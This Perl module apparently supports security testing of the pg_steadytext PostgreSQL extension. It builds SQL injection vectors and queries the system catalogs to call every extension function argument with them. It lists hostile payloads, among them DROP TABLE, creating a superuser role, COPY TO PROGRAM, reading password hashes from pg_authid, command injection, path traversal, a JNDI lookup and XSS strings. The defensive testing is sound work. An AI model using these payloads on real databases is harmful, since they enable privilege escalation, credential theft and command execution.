# Calls of every function of the extension, and texts that try to break out of what they are put into.
package SteadyText::Attack;

use strict;
use warnings;

# What tries to end the literal, identifier, comment or pattern it stands in; what it then does; how it hides the rest.
my @breaks = (q(), q('), q("), q(''), q(\\'), q($$), q[')], q(%27), qq(\x{2019}), q(*/), q(]}), qq(\n));
my @deeds  = (
    q(DROP TABLE public.victim), q(UPDATE public.victim SET word = 'changed'), q(INSERT INTO public.victim VALUES (2, 'new')),
    q(CREATE ROLE intruder SUPERUSER), q(ALTER ROLE CURRENT_USER PASSWORD 'x'), q(CREATE FUNCTION public.intruder() RETURNS int LANGUAGE sql AS 'SELECT 1'),
    q(SELECT pg_advisory_lock(666)), q(SELECT set_config('intruder.was', 'here', false)), q(ALTER SYSTEM SET work_mem = '1MB'),
    q(COPY (SELECT 1) TO PROGRAM 'touch intruder'), q(GRANT ALL ON public.victim TO PUBLIC), q(NOTIFY intruder));
my @ends = (q( --), q(; /*), q(; SELECT '));
my @known = (q(1' OR '1'='1), q(1 OR 1=1), q(' UNION SELECT rolpassword FROM pg_authid --), q(x' AND 1=(SELECT pg_advisory_lock(666)) --),
    q({{7*7}}), q({% raw %}), q(${jndi:ldap://x/a}), q(%s%s%n), q($(touch intruder)), q(`touch intruder`), q(|touch intruder), q(../../../../etc/passwd),
    q(<script>alert(1)</script>), q({"$ne": null}), q(\\x27), q(%00), q(steadytext_config), q(pg_catalog.pg_authid), "x\r\nSET intruder.was = 1",
    q([[:alpha:]]*+?{1,999999999}), '9' x 400, q("};alert(1);{"), q(0x31303235343830303536), q(''''''''), q($1), q(:x), q(?), q(@@version), q(NULL));

# The vectors, all different.
sub vectors {
    my @vectors = @known;
    for my $break (@breaks) {
        for my $deed (@deeds) {
            push @vectors, map { "x$break; $deed$_" } @ends;
        }
    }
    return @vectors;
}

# A row for each argument that a text can reach: the function, the argument, and a call of it with $1 for the text. Arguments that have
# defaults are left out. {calls}: a row for each function, with harmless texts.
sub targets {
    my ($cluster, %options) = @_;
    my $sql = <<'SQL';
WITH functions AS (
    SELECT p.oid, p.oid::regprocedure::text AS name, p.pronamespace::regnamespace AS schema, p.proname, p.proargnames, p.pronargs, p.pronargdefaults,
           string_to_array(p.proargtypes::text, ' ')::oid[] AS types
    FROM pg_proc p JOIN pg_depend d ON d.classid = 'pg_proc'::regclass AND d.objid = p.oid AND d.deptype = 'e'
    JOIN pg_extension e ON e.oid = d.refobjid AND e.extname = 'pg_steadytext'
    WHERE p.prokind = 'f' AND p.prorettype <> 'trigger'::regtype AND NOT 'internal'::regtype = ANY (string_to_array(p.proargtypes::text, ' ')::oid[])),
arguments AS (
    SELECT f.*, a.place, coalesce(nullif(f.proargnames[a.place], ''), '') AS argument, f.types[a.place]::regtype::text AS type,
           a.place <= f.pronargs - f.pronargdefaults AS required
    FROM functions f, generate_series(1, f.pronargs) AS a (place)),
values_of AS (
    SELECT *, CASE type WHEN 'text' THEN '''x''::pg_catalog.text' WHEN 'name' THEN '''*''::pg_catalog.name' WHEN 'text[]' THEN '''{x,y}''::pg_catalog.text[]'
                  WHEN 'jsonb' THEN '''{}''::pg_catalog.jsonb' WHEN 'anyelement' THEN 'NULL::public.victim' WHEN 'boolean' THEN 'false'
                  WHEN 'integer' THEN '1000' WHEN 'bigint' THEN '1000::pg_catalog.int8' WHEN 'double precision' THEN '1000::pg_catalog.float8'
                  ELSE 'NULL::' || CASE WHEN f.nspname IS NULL THEN '' ELSE quote_ident(f.nspname) || '.' END || CASE WHEN type ~ '\[\]$' THEN type ELSE quote_ident(f.typname) END
                  END AS harmless,
              CASE type WHEN 'text' THEN '$1' WHEN 'name' THEN '$1::name' WHEN 'text[]' THEN 'ARRAY[$1, $1 || ''x'']'
                  WHEN 'jsonb' THEN 'jsonb_build_object($1, $1, ''model'', $1, ''pattern'', $1, ''enum'', ARRAY[$1])' END AS attack
    FROM arguments LEFT JOIN (SELECT t.oid AS type_oid, t.typname, n.nspname FROM pg_type t JOIN pg_namespace n ON n.oid = t.typnamespace WHERE t.typname !~ '^_') f
      ON f.type_oid = types[place])
SELECT %s
SQL
    my $select = $options{calls}
        ? q(f.name || chr(9) || '-' || chr(9) || format('SELECT %s.%I(%s)', f.schema, f.proname, (SELECT string_agg(v.harmless, ', ' ORDER BY v.place)
            FROM values_of v WHERE v.oid = f.oid AND v.required)) FROM functions f ORDER BY 1)
        : q(v.name || chr(9) || v.argument || chr(9) || format('SELECT %s.%I(%s)', v.schema, v.proname, (SELECT string_agg(
            CASE WHEN a.argument = '' THEN '' ELSE quote_ident(a.argument) || ' => ' END || CASE WHEN a.place = v.place THEN a.attack ELSE a.harmless END, ', ' ORDER BY a.place)
            FROM values_of a WHERE a.oid = v.oid AND (a.required OR a.place = v.place))) FROM values_of v WHERE v.attack IS NOT NULL ORDER BY 1);
    return map { [ split /\t/ ] } split /\n/, $cluster->sql(sprintf($sql, $select), %{ $options{in} // {} });
}

1;
